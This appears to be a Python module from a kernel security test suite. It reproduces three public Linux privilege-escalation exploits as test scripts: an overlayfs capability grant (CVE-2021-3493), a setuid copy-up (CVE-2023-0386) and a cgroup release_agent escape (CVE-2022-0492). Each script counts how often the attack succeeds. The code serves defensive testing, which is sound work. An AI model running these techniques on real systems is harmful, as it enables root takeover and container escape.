"""How public exploits use bugs in what the kernel asks for rights: Python code that processes of tests run.

Each prints how often it got what it wanted, and with which errors it did not.
"""

from .acts import AS_NOBODY, NOBODY

_MOUNTING = (
    "mkdir l u w m && mount -t overlay -o lowerdir=l,upperdir=u,workdir=w,userxattr none m; s=$?; rm -rf l u w; exit $s"
)
OVERLAY_OF_ONES_OWN = (*AS_NOBODY, "unshare", "--user", "--map-root-user", "--mount", "sh", "-c", _MOUNTING)
"""Tries whether users may mount one, in a folder of theirs."""
_IN_OWN_NAMESPACES = f"""
import collections, ctypes, errno, json, os, struct, sys
rounds, folder, bug = int(sys.argv[1]), sys.argv[2], sys.argv[3]
libc = ctypes.CDLL(None, use_errno=True)
device = os.open("/dev/krie_test", os.O_WRONLY)
if bug:
    os.write(device, f"bug {{bug}}".encode())
os.setgroups([])
os.setresgid({NOBODY}, {NOBODY}, {NOBODY})
os.setresuid({NOBODY}, {NOBODY}, {NOBODY})
libc.prctl(4, 1, 0, 0, 0)                                   # PR_SET_DUMPABLE: its own files in /proc
assert not libc.unshare(0x10020000), ctypes.get_errno()     # CLONE_NEWUSER | CLONE_NEWNS
for name, text in (("setgroups", "deny"), ("uid_map", "0 {NOBODY} 1"), ("gid_map", "0 {NOBODY} 1")):
    with open(f"/proc/self/{{name}}", "w") as file:
        file.write(text)

def overlay(lower):
    for name in ("upper", "work", "merged"):
        os.mkdir(f"{{folder}}/{{name}}")
    places = f"lowerdir={{lower}},upperdir={{folder}}/upper,workdir={{folder}}/work,userxattr"
    if libc.mount(b"overlay", f"{{folder}}/merged".encode(), b"overlay", 0, places.encode()):
        sys.exit(f"an overlay cannot be mounted: {{os.strerror(ctypes.get_errno())}}")

answers = collections.Counter()
def tried(what):
    try:
        what()
        answers["done"] += 1
    except OSError as error:
        answers[errno.errorcode[error.errno]] += 1
"""

CAPABILITY_BY_OVERLAY = f"""
{_IN_OWN_NAMESPACES}
os.mkdir(f"{{folder}}/lower")
overlay(f"{{folder}}/lower")
for round in range(rounds):
    path = f"{{folder}}/merged/{{round}}"
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o755))
    every = struct.pack("<5I", 0x02000001, 0xffffffff, 0, 0xffffffff, 0)
    tried(lambda: os.setxattr(path, "security.capability", every))
print(json.dumps(answers))
"""
"""CVE-2021-3493: a file of one's own gets all capabilities, by an overlay in a user namespace."""

SETUID_BY_COPY_UP = f"""
{_IN_OWN_NAMESPACES}
overlay(sys.argv[4])
for round in range(rounds):
    tried(lambda: os.utime(f"{{folder}}/merged/{{round}}"))
print(json.dumps(answers))
"""
"""CVE-2023-0386: a set-uid file that one's own server says is root's is copied from FUSE to a real file system."""

RELEASE_AGENT = """
import collections, ctypes, errno, json, os, sys
rounds, folder, bug, hierarchy, program = int(sys.argv[1]), *sys.argv[2:]
libc = ctypes.CDLL(None, use_errno=True)
device = os.open("/dev/krie_test", os.O_WRONLY)
if bug:
    os.write(device, f"bug {bug}".encode())
only = 1 << 31                                              # CAP_SETFCAP, as containers have: for root in uid_map
header, data = (ctypes.c_uint * 2)(0x20080522, 0), (ctypes.c_uint * 6)(only, only, 0, 0, 0, 0)
assert not libc.syscall(126, header, data), ctypes.get_errno()  # capset
assert not libc.unshare(0x12020000), ctypes.get_errno()     # CLONE_NEWUSER | CLONE_NEWCGROUP | CLONE_NEWNS
for name, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
    with open(f"/proc/self/{name}", "w") as file:
        file.write(text)
assert not libc.mount(b"none", folder.encode(), b"cgroup", 0, hierarchy.encode()), ctypes.get_errno()
answers = collections.Counter()
for round in range(rounds):
    try:
        agent = os.open(f"{folder}/release_agent", os.O_WRONLY)
        try:
            os.write(agent, program.encode())
        finally:
            os.close(agent)
        answers["done"] += 1
    except OSError as error:
        answers[errno.errorcode[error.errno]] += 1
if answers["done"]:                                         # have a group be empty, which has it run
    os.mkdir(f"{folder}/emptied")
    with open(f"{folder}/emptied/notify_on_release", "w") as file:
        file.write("1")
    child = os.fork()
    if not child:
        with open(f"{folder}/emptied/cgroup.procs", "w") as file:
            file.write("0")
        os._exit(0)
    os.waitpid(child, 0)
print(json.dumps(answers))
"""
"""CVE-2022-0492: root of a container without CAP_SYS_ADMIN, in a user namespace of its own, names a program."""
